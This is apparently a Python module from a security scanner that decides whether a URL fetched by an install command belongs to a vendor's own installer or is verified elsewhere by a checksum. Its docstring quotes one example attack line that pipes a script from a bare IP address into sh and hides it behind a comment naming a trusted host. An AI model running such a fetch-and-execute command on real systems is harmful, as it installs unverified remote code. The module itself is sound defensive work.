"""Vendors' own installers (``data/knowledge/installers.yaml``): is this URL one?

The question is asked of the URL a command actually fetches, never of the line around it:
``curl http://91.92.242.10/x | sh # https://astral.sh`` fetches from an IP address.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from functools import lru_cache
from importlib import resources
from urllib.parse import urlsplit

from tank.core.frontmatter import safe_load

__all__ = ["installer_urls", "vendor_installer", "verified_elsewhere"]

_IP = re.compile(r"^[\d.]+$|:")
#: A word where a command starts: a line (past a prompt or ``sudo``), a pipe, ``;``,
#: ``&&``, a backtick or ``$(``. A name in prose does not run anything.
_COMMAND_WORD = re.compile(
    r"(?:^[ \t]*(?:[$>][ \t]+)?|[;&|`]\s*|\$\(\s*)(?:sudo\s+)?([a-z][a-z0-9_-]{2,40})(?=\s|$|`)",
    re.IGNORECASE | re.M,
)


#: Bytes of a file searched for a URL and a checksum tool (bounded work per file).
_MAX_SEARCH = 200_000


@lru_cache(maxsize=1)
def _yaml() -> dict[str, object]:
    text = (resources.files("tank.scanner") / "data" / "knowledge" / "installers.yaml").read_text(
        "utf-8"
    )
    data = safe_load(text)
    if not isinstance(data, dict):  # pragma: no cover
        raise ValueError("data/knowledge/installers.yaml: expected a mapping")
    return data


@lru_cache(maxsize=1)
def _checksum_tools() -> re.Pattern[str]:
    tools = _yaml().get("checksum_tools")
    if not isinstance(tools, list) or not tools:  # pragma: no cover
        raise ValueError("data/knowledge/installers.yaml: expected a list 'checksum_tools'")
    words = "|".join(re.escape(str(t)).replace(r"\ ", r"\s+") for t in tools)
    return re.compile(rf"(?<![\w-])(?:{words})(?![\w-])", re.IGNORECASE)


@lru_cache(maxsize=1)
def _data() -> tuple[tuple[str, ...], tuple[re.Pattern[str], ...]]:
    data = _yaml()
    urls = data.get("urls") if isinstance(data, dict) else None
    projects = data.get("project_hosts") if isinstance(data, dict) else None
    if not isinstance(urls, list) or not isinstance(projects, list):  # pragma: no cover
        raise ValueError("data/knowledge/installers.yaml: expected lists 'urls', 'project_hosts'")
    templates = tuple(
        re.compile(
            "^"
            + re.escape(str(t).lower())
            .replace(re.escape("{owner}"), r"(?P<owner>[\w.-]+)")
            .replace(re.escape("{repo}"), r"(?P<repo>[\w.-]+)")
        )
        for t in projects
    )
    return tuple(str(u).lower() for u in urls), templates


def installer_urls() -> tuple[str, ...]:
    """The vendor install locations, lower case, as ``host[/path prefix]``."""
    return _data()[0]


def _matches(location: str, entry: str) -> bool:
    host, _, path = entry.partition("/")
    loc_host, _, loc_path = location.partition("/")
    if host.startswith("*."):
        if not loc_host.endswith(host[1:]):
            return False
    elif loc_host != host:
        return False
    return not path or loc_path.startswith(path)


def _stem(name: str) -> str:
    return re.split(r"[-_.]", name.lower(), maxsplit=1)[0]


def _runs_program_named(names: list[str], text: str) -> bool:
    """Whether ``text`` (outside its URLs) runs a program sharing a name with the project:
    the same first word (``mull-project`` / ``mull-runner``) or one a prefix of the other
    (``fluxcd`` / ``flux``), four letters at least."""
    stems = {_stem(n) for n in names if len(_stem(n)) >= 4}
    return any(s.startswith(word) or word.startswith(s) for s in stems for word in _programs(text))


@lru_cache(maxsize=8)
def _programs(text: str) -> frozenset[str]:
    """The first words (four letters at least) of the programs ``text`` runs."""
    outside = re.sub(r"\S*://\S*", " ", text[:200_000])
    words = (_stem(m.group(1)) for m in _COMMAND_WORD.finditer(outside))
    return frozenset(w for w in words if len(w) >= 4)


def vendor_installer(url: str, text: str = "") -> bool:
    """True when ``url`` is https and a vendor's own installer: listed, or on a project host
    (a GitHub release…) or a self-named domain whose name ``text`` also runs as a program."""
    try:  # a malformed URL ("https://[host]/…") is no vendor's installer
        parts = urlsplit(url.strip().strip("'\"`"))
        host = (parts.hostname or "").lower()
    except ValueError:
        return False
    if parts.scheme.lower() != "https" or not host or _IP.search(host):
        return False
    location = host + parts.path.lower()
    if any(_matches(location, entry) for entry in installer_urls()):
        return True
    if not text:
        return False
    for template in _data()[1]:
        found = template.match(location)
        if found:
            return _runs_program_named([found.group("owner"), found.group("repo")], text)
    labels = host.split(".")
    return len(labels) >= 2 and _runs_program_named([labels[-2]], text)


def verified_elsewhere(url: str, files: Mapping[str, bytes], path: str) -> bool:
    """Whether the skill's code fetches ``url`` again, apart from the line quoting it in
    ``path``, in a file that checks a digest (``sha256sum``, ``shasum -a 256``, ``gpg
    --verify``…): the quoted ``curl URL | sh`` is then the vendor's line the skill replaces
    with a verified download, and running it adds nothing the skill's own code does not do.
    Only https counts (a checksum fetched over plain http proves nothing)."""
    url = url.strip().strip("'\"`")
    if not url.lower().startswith("https://") or "$" in url:
        return False
    for name, data in files.items():
        text = data[:_MAX_SEARCH].decode("utf-8", "replace")
        needed = 2 if name == path else 1
        if text.count(url) >= needed and _checksum_tools().search(text):
            return True
    return False
